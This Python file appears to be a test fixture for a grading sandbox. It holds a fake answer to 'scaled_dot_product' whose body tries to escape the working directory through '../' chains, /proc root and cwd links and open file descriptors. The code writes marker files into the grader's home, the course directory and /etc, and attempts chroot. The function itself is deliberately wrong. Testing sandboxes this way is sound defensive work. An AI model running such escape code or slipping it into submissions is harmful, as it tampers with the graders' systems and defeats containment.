"""Climb out of the working directory with `..`, through /proc, and through directories held open."""

KIND = "left behind"
DESERVES = 12
STOCK = "It would write to the directories of the user who grades."
ANSWERS = {
    "scaled_dot_product": """
import os

ways = ["../" * 20, "/proc/self/root", "/proc/1/root", "/proc/1/cwd", "/proc/thread-self/root"]
ways += [f"/proc/{os.getppid()}/root"] + [f"/proc/self/fd/{number}" for number in range(64)]
for way in ways:
    for place in ("@COURSE@/climbed", "@HOME@/climbed", "/etc/climbed", "/climbed"):
        try:
            with open(way + place, "w") as file:
                file.write("8")
            print("written", way + place)
        except OSError:
            pass
for attempt in (os.chroot, os.chdir):
    try:
        attempt("/proc/1/root")
    except OSError as error:
        print(error)

def scaled_dot_product(q, k, v, mask=None):
    return q, k
"""
}
